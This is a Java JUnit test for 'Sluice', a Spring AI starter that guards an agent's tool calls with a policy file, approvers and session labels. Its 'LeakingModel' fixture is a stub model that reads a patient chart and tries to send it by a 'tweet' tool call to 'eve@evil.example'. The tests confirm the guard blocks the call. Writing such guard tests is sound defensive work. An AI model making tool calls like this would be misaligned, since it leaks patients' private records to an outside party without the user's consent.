package dev.sluice.springai.starter;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.sluice.guard.client.ApprovalRequest;
import dev.sluice.guard.client.Approver;
import dev.sluice.guard.client.Enforcement;
import dev.sluice.labels.SessionLabel;
import dev.sluice.policy.PolicyException;
import dev.sluice.springai.Sluice;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.springframework.ai.chat.client.ChatClient;
import org.springframework.ai.chat.memory.ChatMemory;
import org.springframework.ai.chat.memory.ChatMemoryRepository;
import org.springframework.ai.chat.memory.InMemoryChatMemoryRepository;
import org.springframework.ai.chat.messages.AssistantMessage;
import org.springframework.ai.chat.messages.Message;
import org.springframework.ai.chat.messages.ToolResponseMessage;
import org.springframework.ai.chat.model.ChatModel;
import org.springframework.ai.chat.model.ChatResponse;
import org.springframework.ai.chat.model.Generation;
import org.springframework.ai.chat.prompt.ChatOptions;
import org.springframework.ai.chat.prompt.Prompt;
import org.springframework.ai.mcp.SyncMcpToolCallbackProvider;
import org.springframework.ai.mcp.client.common.autoconfigure.McpClientAutoConfiguration;
import org.springframework.ai.mcp.client.common.autoconfigure.McpToolCallbackAutoConfiguration;
import org.springframework.ai.mcp.client.common.autoconfigure.NamedClientMcpTransport;
import org.springframework.ai.mcp.client.common.autoconfigure.annotations.McpClientAnnotationScannerAutoConfiguration;
import org.springframework.ai.model.chat.client.autoconfigure.ChatClientAutoConfiguration;
import org.springframework.ai.model.tool.ToolCallingChatOptions;
import org.springframework.ai.model.tool.autoconfigure.ToolCallingAutoConfiguration;
import org.springframework.ai.tool.annotation.Tool;
import org.springframework.boot.autoconfigure.AutoConfigurations;
import org.springframework.boot.diagnostics.FailureAnalysis;
import org.springframework.boot.diagnostics.FailureAnalyzer;
import org.springframework.boot.test.context.assertj.AssertableApplicationContext;
import org.springframework.boot.test.context.runner.ApplicationContextRunner;
import org.springframework.boot.test.context.runner.ContextConsumer;
import org.springframework.context.ApplicationContext;
import org.springframework.context.annotation.Bean;
import org.springframework.context.annotation.Configuration;
import org.springframework.core.io.support.SpringFactoriesLoader;
import org.springframework.core.io.support.SpringFactoriesLoader.FailureHandler;

/** Applications with the starter, as Spring Boot puts them together. */
class SluiceAutoConfigurationTest {

    @TempDir
    Path folder;

    private Path policy = Path.of("");

    @BeforeEach
    void writePolicy() throws IOException {
        policy = folder.resolve("policy.yaml");
        try (var text = SluiceAutoConfigurationTest.class.getResourceAsStream("/clinic-policy.yaml")) {
            Files.write(policy, Objects.requireNonNull(text).readAllBytes());
        }
    }

    /** Reads the chart, and sends it to somebody of whom the user never spoke. */
    static final class LeakingModel implements ChatModel {
        private final boolean reads;

        LeakingModel(boolean reads) {
            this.reads = reads;
        }

        @Override
        public ChatResponse call(Prompt prompt) {
            List<Message> all = prompt.getInstructions();
            List<ToolResponseMessage> answers = all.stream()
                    .filter(ToolResponseMessage.class::isInstance)
                    .map(ToolResponseMessage.class::cast)
                    .toList();
            int done = answers.size() + (reads ? 0 : 1);
            AssistantMessage said = done == 0
                    ? call("read", "{}")
                    : done == 1
                            ? call("tweet", "{\"to\":\"eve@evil.example\",\"text\":\"" + WardServer.CHART + "\"}")
                            : new AssistantMessage(answers.get(answers.size() - 1)
                                    .getResponses()
                                    .get(0)
                                    .responseData());
            return new ChatResponse(List.of(new Generation(said)));
        }

        private static AssistantMessage call(String tool, String arguments) {
            return AssistantMessage.builder()
                    .content("")
                    .toolCalls(List.of(new AssistantMessage.ToolCall(tool, "function", tool, arguments)))
                    .build();
        }

        @Override
        public ChatOptions getOptions() {
            return ToolCallingChatOptions.builder().build();
        }
    }

    /** The application's own tools. */
    static final class Tools {
        final List<String> tweeted = new CopyOnWriteArrayList<>();

        @Tool(description = "tweets")
        String tweet(String to, String text) {
            tweeted.add(text);
            return "tweeted";
        }
    }

    @Configuration(proxyBeanMethods = false)
    static class Application {
        @Bean
        ChatModel model() {
            return new LeakingModel(true);
        }

        @Bean
        List<NamedClientMcpTransport> transports() {
            return List.of(new NamedClientMcpTransport("ward", new WardServer()));
        }

        @Bean
        Tools tools() {
            return new Tools();
        }
    }

    static ApplicationContextRunner bare() {
        return new ApplicationContextRunner()
                .withConfiguration(AutoConfigurations.of(
                        SluiceAutoConfiguration.class,
                        ToolCallingAutoConfiguration.class,
                        ChatClientAutoConfiguration.class,
                        McpClientAutoConfiguration.class,
                        McpClientAnnotationScannerAutoConfiguration.class,
                        McpToolCallbackAutoConfiguration.class))
                .withUserConfiguration(Application.class);
    }

    private ApplicationContextRunner application() {
        return bare().withPropertyValues("sluice.policy=" + policy);
    }

    private static String chat(ApplicationContext application, ChatModel model, String conversation) {
        return ChatClient.builder(model)
                .defaultAdvisors(application.getBean(Sluice.class).advisor())
                .build()
                .prompt("Read the chart")
                .advisors(spec -> spec.param(ChatMemory.CONVERSATION_ID, conversation))
                .tools(application.getBean(SyncMcpToolCallbackProvider.class), application.getBean(Tools.class))
                .call()
                .content();
    }

    /** What an application itself does: nothing of Sluice stands in it. */
    private static String chat(ApplicationContext application) {
        return application
                .getBean(ChatClient.Builder.class)
                .build()
                .prompt("Read the chart")
                .advisors(spec -> spec.param(ChatMemory.CONVERSATION_ID, "one"))
                .tools(application.getBean(SyncMcpToolCallbackProvider.class), application.getBean(Tools.class))
                .call()
                .content();
    }

    static void failsWith(ApplicationContextRunner runner, String message) {
        runner.run(context -> {
            Throwable cause = context.getStartupFailure();
            assertNotNull(cause, "it started");
            while (cause.getCause() != null) {
                cause = cause.getCause();
            }
            assertEquals(message, cause.getMessage());
        });
    }

    @Test
    void noPolicy_doesNotStart() {
        failsWith(bare(), "sluice.policy: no policy is named; name a policy file here, or take the starter out");
        failsWith(
                bare().withPropertyValues("sluice.policy="),
                "sluice.policy: no policy is named; name a policy file here, or take the starter out");
    }

    @Test
    void missingPolicy_doesNotStart() {
        Path missing = folder.resolve("missing.yaml");
        failsWith(
                bare().withPropertyValues("sluice.policy=" + missing),
                missing + ": the policy can't be read; name a readable file in `sluice.policy`");
        failsWith(
                bare().withPropertyValues("sluice.policy=classpath:missing.yaml"),
                "classpath:missing.yaml: the policy can't be read; name a readable file in `sluice.policy`");
        failsWith(
                bare().withPropertyValues("sluice.policy=" + folder),
                folder + ": the policy can't be read; name a readable file in `sluice.policy`");
    }

    @Test
    void badPolicy_doesNotStart() throws IOException {
        Files.writeString(policy, "version: 1\nserver: {}\n");
        application().run(context -> {
            PolicyException cause = cause(context.getStartupFailure());
            assertEquals(2, cause.problems().get(0).line());
            FailureAnalysis analysis = SpringFactoriesLoader.forDefaultResourceLocation()
                    .load(FailureAnalyzer.class, FailureHandler.handleMessage((message, others) -> {}))
                    .stream()
                    .filter(PolicyFailureAnalyzer.class::isInstance)
                    .findFirst()
                    .orElseThrow()
                    .analyze(context.getStartupFailure());
            assertTrue(analysis.getDescription().contains(policy + ":2: "), analysis.getDescription());
        });
    }

    private static PolicyException cause(Throwable thrown) {
        assertNotNull(thrown, "it started");
        Throwable cause = thrown;
        while (cause.getCause() != null) {
            cause = cause.getCause();
        }
        return assertInstanceOf(PolicyException.class, cause);
    }

    @Test
    void application_isGuardedWithoutAWordOfItsOwn() {
        application().run(context -> {
            assertTrue(chat(context).startsWith("sluice denied `tweet`"));
            assertEquals(List.of(), context.getBean(Tools.class).tweeted);
        });
    }

    @Test
    void policyOnTheClassPath_isEnforced() {
        bare().withPropertyValues("sluice.policy=classpath:clinic-policy.yaml").run(context -> {
            assertTrue(chat(context).startsWith("sluice denied `tweet`"));
        });
    }

    @Test
    void approverBean_isAsked() {
        List<ApprovalRequest> asked = new CopyOnWriteArrayList<>();
        Approver approver = request -> {
            asked.add(request);
            return CompletableFuture.completedFuture(true);
        };
        application().withBean(Approver.class, () -> approver).run(context -> {
            assertEquals("\"tweeted\"", chat(context));
            assertEquals(1, asked.size());
            assertEquals("one", asked.get(0).conversation());
        });
    }

    @Test
    void silentApprover_endsInADenialBeforeTheClientGivesUp() {
        Approver approver = request -> new CompletableFuture<>();
        application()
                .withBean(Approver.class, () -> approver)
                .withPropertyValues("spring.ai.mcp.client.request-timeout=3s")
                .run(context -> assertTrue(chat(context).startsWith("sluice denied `tweet`")));
    }

    @Test
    void state_outlivesTheApplication() {
        ApplicationContextRunner kept = application().withPropertyValues("sluice.state=" + folder.resolve("state"));
        kept.run(context -> chat(context, new LeakingModel(true), "one"));
        assertTrue(Files.isRegularFile(folder.resolve("state/state.db")));
        kept.run(context -> {
            assertTrue(chat(context, new LeakingModel(false), "one").startsWith("sluice denied `tweet`"));
            assertEquals("\"tweeted\"", chat(context, new LeakingModel(false), "two"));
        });
    }

    /** Stands for one that keeps messages in a database. */
    static final class LastingMemory implements ChatMemoryRepository {
        @Override
        public List<String> findConversationIds() {
            return List.of();
        }

        @Override
        public List<Message> findByConversationId(String id) {
            return List.of();
        }

        @Override
        public void saveAll(String id, List<Message> messages) {
            throw new UnsupportedOperationException(id);
        }

        @Override
        public void deleteByConversationId(String id) {
            throw new UnsupportedOperationException(id);
        }
    }

    @Test
    void chatMemoryThatOutlivesLabels_doesNotStart() {
        ApplicationContextRunner lasting = application().withBean(ChatMemoryRepository.class, LastingMemory::new);
        failsWith(
                lasting,
                "the chat memory may outlive the process, and the labels of what is in it do not; name a folder for them in"
                        + " `sluice.state`, or say `memory` there if you know better");
        ContextConsumer<AssertableApplicationContext> starts =
                context -> assertEquals(null, context.getStartupFailure());
        lasting.withPropertyValues("sluice.state=memory").run(starts);
        lasting.withPropertyValues("sluice.state=" + folder.resolve("state")).run(starts);
        application()
                .withBean(ChatMemoryRepository.class, InMemoryChatMemoryRepository::new)
                .run(starts);
    }

    @Test
    void conversationOfTheProperties_isTheOnlyOne() {
        application().withPropertyValues("sluice.conversation=desk").run(context -> {
            chat(context, new LeakingModel(true), "one");
            assertTrue(chat(context, new LeakingModel(false), "two").startsWith("sluice denied `tweet`"));
        });
    }

    @Test
    void connectionThatCantBeAServerOfThePolicy_doesNotStart() {
        failsWith(
                application()
                        .withBean(
                                "other",
                                List.class,
                                () -> List.of(new NamedClientMcpTransport("my ward", new WardServer()))),
                "`my?ward` can't be the name of a server: use letters, digits, `-` and single `_`, 40 at most");
    }

    @Test
    void customizer_saysMore() {
        List<Enforcement.Builder> seen = new CopyOnWriteArrayList<>();
        application()
                .withBean(EnforcementCustomizer.class, () -> seen::add)
                .withPropertyValues("sluice.principal=ana", "sluice.local-server=ward", "sluice.idle=2h")
                .run(context -> {
                    assertEquals(1, seen.size());
                    assertNotNull(context.getBean(IdleConversations.class));
                    assertEquals(
                            SessionLabel.EMPTY,
                            context.getBean(Sluice.class)
                                    .conversation(Map.of(Sluice.CONVERSATION, "x"))
                                    .seen());
                });
    }
}
